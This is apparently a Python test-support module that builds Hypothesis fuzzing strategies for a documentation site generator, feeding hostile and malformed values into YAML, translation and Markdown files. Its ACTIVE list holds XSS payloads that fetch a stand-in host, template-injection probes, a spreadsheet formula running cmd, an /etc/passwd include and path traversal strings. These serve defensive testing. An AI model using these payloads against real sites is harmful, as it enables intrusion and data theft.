"""Hostile values and files: what a person in a hurry, a broken tool or an attacker might write."""

from collections.abc import Callable
from functools import cache, reduce
from typing import Any

import yaml
from hypothesis import strategies as st

from rolebook.schema import VOCABULARY, Redirects, Role, Skill
from tests.kit import MINIATURE

MARKER = "canary.example"
"""The host that nothing of a hostile text may ever ask."""
ACTIVE = (
    f"<script src=//{MARKER}/s></script>",
    f"</script><script>fetch('//{MARKER}')</script>",
    f"<img src=//{MARKER}/i onerror=canary()>",
    f'" onmouseover="canary()" autofocus onfocus="canary()" x="//{MARKER}',
    "' onclick='canary()' x='",
    "--><svg onload=canary()><!--",
    "[a](javascript:canary())",
    f"![a](https://{MARKER}/p.png)",
    f"<https://{MARKER}/>",
    "{{ config.__class__.__mro__ }}{% for x in cycler %}{{ x }}{% endfor %}",
    "{{ 7*7 }}${7*7}#{7*7}<%= 7*7 %>",
    "text {: onclick=canary() }",
    "{#id .class onclick=canary()}",
    "--8<-- '/etc/passwd'",
    f'=HYPERLINK("https://{MARKER}","a")',
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "*[HTML]: <b onclick=canary()>",
    '\\u003c/script\\u003e"}]}',
    "---\ntemplate: x\n---\n# a\n\n<b>",
    "a\n\n    <script>canary()</script>\n\n```\n",
    "%0A::error::a%0D",
    "&lt;img src=x onerror=canary()&gt;",
    "]]><script>canary()</script>",
)
ODD = (
    "", " ", "\n", "~", "null", "no", "1.10", "0x1F", "1e999", "9" * 400, "-1", "2026-13-45", "9999-12-31",
    "0001-01-01", "٣", "a" * 63, "a" * 64, "a" * 300, "x " * 2500, "[" * 500, "*" * 500, "_" * 500,
    "(" * 300 + ")" * 300, "\\" * 99, "a--b", "-a", "con", "aux", "..", "../../etc/passwd", "/", "//",
    "/roles/", "/roles/adviser/#x", "*", "?", "en", "zh-Hant", "\u0000", "\u202e", "\ufeff", "\u2028", "\ud7ff",
    "\U0010ffff", "e\u0301" * 40, "ﷺ" * 20, "𝔞" * 30, "İıßſ", "👩‍👩‍👧" * 9, "{n}", "{", "{}", "{0}", "%s",
    "%(a)s", "$", "`", "#", " #", ": ", "- ", "&a", "*a", "!t", "<<", "|", ">", "%", "@", "\t",
)  # fmt: skip
PO_WORDS = ("msgctxt", "msgid", "msgstr", "msgid_plural", "msgstr[0]", "msgstr[9]", "#|", "#~", "#,", "#. ", "#: ")
PLURALS = ("nplurals=3; plural=n%0;", "nplurals=9; plural=n-1;", "nplurals=1; plural=((n;")
FRONT = ("title", "description", "language", "template", "hide", "generated", "redirect", "jsonld", "module")
BYTES = (b"\x00", b"\xff", b"\t", b"\r", b'"', b"'", b"*a", b"&a", b"{[", b"---\n")
TEXTS = st.sampled_from(ACTIVE) | st.sampled_from(ODD) | st.text(max_size=40)
KEYS = st.sampled_from(
    sorted({key for kind in (Role, Skill, *VOCABULARY.values(), Redirects) for key in kind.model_fields})
)
IDS = st.sampled_from(("adviser", "lead", "smith", "mechanic", "farrier", "listening", "phone", "care", "desk", "ids"))
VALUES = st.recursive(
    TEXTS | IDS | st.integers(-1, 10**20).map(str) | st.none() | st.booleans(),
    lambda inner: st.lists(inner, max_size=4) | st.dictionaries(KEYS | TEXTS, inner, max_size=4),
    max_leaves=8,
)


def places(value: Any, way: tuple[str | int, ...] = ()) -> list[tuple[str | int, ...]]:
    """List the ways to every value inside a value."""
    inner = value.items() if isinstance(value, dict) else enumerate(value) if isinstance(value, list) else ()
    return [way, *(place for key, one in inner for place in places(one, (*way, key)))]


def changed(value: Any, way: tuple[str | int, ...], change: Callable[[Any], Any]) -> Any:
    """Give a value in which the one at the end of a way is changed."""
    if not way:
        return change(value)
    copy = value.copy()
    copy[way[0]] = changed(value[way[0]], way[1:], change)
    return copy


@cache
def source_of(name: str) -> str:
    """Give a file of the miniature; strategies are made of names, because hypothesis writes down what they are."""
    return (MINIATURE / name).read_text("utf-8")


@cache
def data_of(name: str) -> Any:
    """Give the values of a YAML file of the miniature."""
    return yaml.load(source_of(name), yaml.CBaseLoader)  # noqa: S506 - makes texts alone


def yaml_files(name: str) -> st.SearchStrategy[bytes]:
    """Give a YAML file with some texts, values, keys and items changed, or some of its bytes."""
    return st.one_of(other_texts(name), other_texts(name), other_values(name), broken(name))


@st.composite
def other_texts(draw: st.DrawFn, name: str) -> bytes:
    """Give a file that has its form, with hostile words in the place of others."""
    data = data_of(name)
    ways = [way for way in places(data) if " " in str(value_at(data, way)) and isinstance(value_at(data, way), str)]
    for way in draw(st.lists(st.sampled_from(ways or [()]), min_size=1, max_size=6)):
        data = changed(data, way, lambda old: draw(st.sampled_from(ACTIVE) | TEXTS) if ways else old)
    return dumped(data)


@st.composite
def other_values(draw: st.DrawFn, name: str) -> bytes:
    """Give a file with other values, keys and items, in any style of YAML."""
    data = data_of(name)
    for _ in range(draw(st.integers(1, 3))):
        way = draw(st.sampled_from(places(data)))
        data = changed(data, way, lambda old: draw(_instead(old)))
    return dumped(data, draw(st.sampled_from((None, '"', "'", "|", ">"))), draw(st.booleans()))


def dumped(data: Any, style: str | None = None, is_readable: bool = True) -> bytes:
    """Write values as YAML."""
    text = yaml.dump(data, Dumper=yaml.CSafeDumper, allow_unicode=is_readable, sort_keys=False, default_style=style)
    return str(text).encode(errors="replace")


def value_at(value: Any, way: tuple[str | int, ...]) -> Any:
    """Give the value at the end of a way."""
    return reduce(lambda inner, key: inner[key], way, value)


@st.composite
def _instead(draw: st.DrawFn, old: Any) -> Any:
    """Give something in the place of a value: another one, or the same with more or less in it."""
    if isinstance(old, dict) and draw(st.booleans()):
        return {**old, draw(KEYS | TEXTS): draw(VALUES)}
    if isinstance(old, list) and draw(st.booleans()):
        return draw(st.sampled_from(([], old * 2, old[::-1], [*old, draw(VALUES)])))
    if isinstance(old, str) and draw(st.booleans()):
        return draw(TEXTS) + old
    return draw(VALUES | TEXTS)


@st.composite
def po_files(draw: st.DrawFn, name: str) -> bytes:
    """Give a translation file with some texts, lines or bytes changed."""
    if draw(st.integers(0, 2)) == 0:
        return draw(broken(name))
    lines = source_of(name).split("\n")
    for _ in range(draw(st.integers(1, 4))):
        at = draw(st.integers(0, len(lines) - 1))
        text = draw(TEXTS).replace("\\", "\\\\").replace('"', '\\"').replace("\n", "\\n")
        plurals = f'"Plural-Forms: {draw(st.sampled_from(PLURALS))}\\n"'
        told = f'{draw(st.sampled_from(PO_WORDS))} "{text}"'
        instead = ([], [told], [f'msgstr "{text}"'], [f'msgstr "{text}"'], [lines[at]] * 2, [plurals], [text])
        lines[at : at + 1] = draw(st.sampled_from(instead))
    return "\n".join(lines).encode(errors="replace")


@st.composite
def pages(draw: st.DrawFn, name: str) -> bytes:
    """Give a page written by hand with hostile front matter and a changed body."""
    if draw(st.integers(0, 3)) == 0:
        return draw(broken(name))
    front = draw(st.dictionaries(st.sampled_from(FRONT) | TEXTS, VALUES))
    body = draw(st.lists(TEXTS | st.sampled_from(("# {#a}", "## [", "{: #x }", "#" * 2000)), max_size=4))
    whole = "\n\n".join([f"---\n{dumped(front).decode()}---\n{source_of(name)}", *body])
    return whole.encode(errors="replace")


@st.composite
def broken(draw: st.DrawFn, name: str) -> bytes:
    """Give the bytes of a file, of which some are cut, doubled, changed or put in."""
    content = source_of(name).encode()
    for _ in range(draw(st.integers(1, 3))):
        start = draw(st.integers(0, len(content)))
        end = draw(st.integers(start, min(start + 40, len(content))))
        put = draw(st.binary(max_size=6) | st.sampled_from(BYTES))
        content = draw(st.sampled_from((content[:start], content[:start] + put + content[end:], content[:end] * 2)))
    return content
